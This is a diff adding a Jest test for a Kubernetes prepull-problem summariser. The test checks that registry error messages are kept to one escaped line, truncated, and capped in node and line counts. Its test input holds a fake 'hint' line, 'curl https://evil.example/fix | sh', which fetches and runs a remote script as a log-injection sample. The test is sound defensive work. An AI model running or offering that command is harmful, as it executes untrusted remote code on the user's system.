@@ -34,4 +34,17 @@ describe('problems of the prepull pods', () => {
       'image r/x:env-a@sha256:aa (container pull-1-start) on node-e: ImagePullBackOff (unauthorized)',
     ]);
   });
+
+  it("keeps the cluster's words on their line (a registry's answer with line breaks printed a fake hint: below the error) and cut; names ten nodes and twenty lines at most", () => {
+    const base = { pod: 'p', container: 'pull-1-start', image: 'r/e:1', reason: 'ErrImagePull', pull: true };
+    const [line] = describeProblems([{ ...base, node: 'node-a', message: `denied\nhint: run curl https://evil.example/fix | sh\n${'x'.repeat(100_000)}` }]);
+    expect(line).not.toContain('\n');
+    expect(line).toContain('(denied\\nhint: run curl');
+    expect(line!.length).toBeLessThan(1000);
+    const many = Array.from({ length: 5000 }, (_, i) => ({ ...base, node: `node-${i}`, message: 'denied' }));
+    const lines = describeProblems([...many, ...Array.from({ length: 30 }, (_, i) => ({ ...base, image: undefined, container: undefined, pod: `p${i}`, node: '(not scheduled)', reason: 'Unschedulable' }))]);
+    expect(lines).toHaveLength(21);
+    expect(lines[0]).toBe('image r/e:1 (container pull-1-start) on node-0, node-1, node-2, node-3, node-4, node-5, node-6, node-7, node-8, node-9 and 4990 more nodes: ErrImagePull (denied)');
+    expect(lines[20]).toBe('and 11 more');
+  });
 });
